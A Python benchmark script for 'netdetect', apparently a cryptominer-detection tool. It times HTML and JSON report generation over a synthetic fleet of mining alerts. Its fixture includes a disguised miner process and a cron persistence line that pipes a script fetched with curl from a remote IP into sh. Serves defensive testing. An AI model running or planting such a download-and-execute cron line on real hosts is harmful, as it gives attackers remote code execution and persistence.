"""Time and size of `netdetect report` for many alerts, against reading the same EVE file.

    python -m bench.report_bench --alerts 10000 [--runs 3] [--keep DIR]

A fleet is made up: `--alerts` alerts on `--hosts` hosts in groups that pay one wallet each
(a campaign per group), one host in twenty confirmed with a process and a cron line, a
prober host trying hundreds of pools, and an internal proxy with its miners. The EVE lines
are written once; then, in the same process and run:

- baseline: reading and parsing the EVE file (`read_eve`) — what any tool pays;
- report: reading, grouping into campaigns, building the document, rendering the HTML and
  writing HTML and JSON.

The ratio report / baseline is the number to watch (a timed assertion would only measure the
machine); sizes are of the files written.
"""

from __future__ import annotations

import argparse
import io
import statistics
import tempfile
import time
from pathlib import Path

from netdetect.agent.schema import HostReport, PersistenceEntry, ProcessFacts
from netdetect.campaign import CampaignBook
from netdetect.model import Alert, Endpoint, Evidence, MinerFacts, PoolFacts, Suspect, Verdict
from netdetect.report import build, read_eve, write_report
from netdetect.sinks.eve import EveWriter

WALLET = "4{:0>94}"


def _report(host: str, group: int) -> HostReport:
    return HostReport(
        v=1, host_id=host, nonce="0" * 32, generated_at=0.0, found=True,
        process=ProcessFacts(
            pid=4242, ppid=1, name="kswapd0", user="www-data", exe="/tmp/.x/kswapd0",
            exe_deleted=False, exe_suspicious_dir=True, exe_sha256=f"{group:064x}",
            cmdline=["/tmp/.x/kswapd0", "-o", f"pool{group % 40}.example:3333"], cwd="/tmp",
            start_time=0.0, cgroup=None, container_id=None, netns=None, threads=8,
            cpu_percent=380.0, rss_bytes=1 << 31, hugepages_kb=0),
        persistence=[PersistenceEntry(
            kind="cron", path="/var/spool/cron/crontabs/www-data", line=3,
            text=f"*/15 * * * * curl -fsSL http://203.0.113.{group % 250}/l.sh | sh",
            mtime=0.0, references_process=True, download_exec=True, technique="T1053.003")])


def make_alerts(n: int, hosts: int) -> list[Alert]:
    out: list[Alert] = []
    for i in range(n):
        h = i % hosts
        kind = i % 50
        group = h // 25
        miner = f"10.{h // 65536 % 256}.{h // 256 % 256}.{h % 256}"
        pool = f"198.51.100.{group % 200}"
        pool_host: str | None = f"pool{group % 40}.example"
        login: str | None = WALLET.format(group) + f".rig{h}"
        agent = "XMRig/6.21.0 (Linux x86_64)"
        if kind == 0:  # the prober
            miner, pool, pool_host, login, agent = (
                "192.168.9.9", f"203.0.{i // 250 % 250}.{i % 250}", None, None, "cgminer/3.7.2")
        elif kind == 1:  # the proxy's miners
            pool, pool_host, login = "10.250.0.10", None, "x"
        s = Suspect(flow_id=i, ts=1.767e9 + i * 3.0, first_ts=1.767e9 + i * 3.0,
                    miner=Endpoint(miner, 40000 + i % 20000), pool=Endpoint(pool, 3333),
                    proto="TCP", app_proto="stratum", dialect="cryptonote", score=90,
                    evidence=(Evidence("stratum-client", 70, 'cryptonote "login"', 0),),
                    methods=("login",), pool_facts=PoolFacts(host=pool_host),
                    miner_facts=MinerFacts(agent=agent, login=login))
        report = _report(f"h{h}", group) if h % 20 == 0 and kind > 1 else None
        out.append(Alert(s, Verdict.CONFIRMED_PERSISTENT if report else Verdict.NETWORK_ONLY,
                         1 if report else 2, host_id=f"h{h}", host=report,
                         mitre=("T1496", "T1053.003") if report else ("T1496",)))
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--alerts", type=int, default=10_000)
    ap.add_argument("--hosts", type=int, default=2_000)
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--keep", default=None, help="keep the EVE, HTML and JSON here")
    args = ap.parse_args()
    work = Path(args.keep or tempfile.mkdtemp(prefix="report-bench-"))
    work.mkdir(parents=True, exist_ok=True)
    eve_path = work / "eve.json"
    buf = io.StringIO()
    eve = EveWriter(buf)
    book = CampaignBook()
    for a in make_alerts(args.alerts, args.hosts):
        eve.write(book.tag(a))
    eve_path.write_text(buf.getvalue(), encoding="utf-8")
    base, full = [], []
    doc: dict[str, object] = {}
    for _ in range(args.runs):
        t0 = time.process_time()
        recs, _ = read_eve([str(eve_path)])
        base.append(time.process_time() - t0)
        t0 = time.process_time()
        recs, errors = read_eve([str(eve_path)])
        doc = build(recs, sources=[str(eve_path)], errors=errors)
        write_report(doc, html_path=str(work / "report.html"),
                     json_path=str(work / "report.json"))
        full.append(time.process_time() - t0)
    b, f = statistics.median(base), statistics.median(full)
    summary = doc["summary"]
    assert isinstance(summary, dict)
    print(f"{args.alerts} alerts, {summary['campaigns']} campaigns, {summary['hosts']} hosts; "
          f"EVE {eve_path.stat().st_size / 1e6:.1f} MB")
    print(f"read EVE (baseline) {b:.2f} s CPU; report {f:.2f} s CPU = {f / b:.1f}x baseline "
          f"(median of {args.runs})")
    print(f"HTML {(work / 'report.html').stat().st_size / 1e6:.2f} MB, "
          f"JSON {(work / 'report.json').stat().st_size / 1e6:.2f} MB  ({work})")


if __name__ == "__main__":
    main()
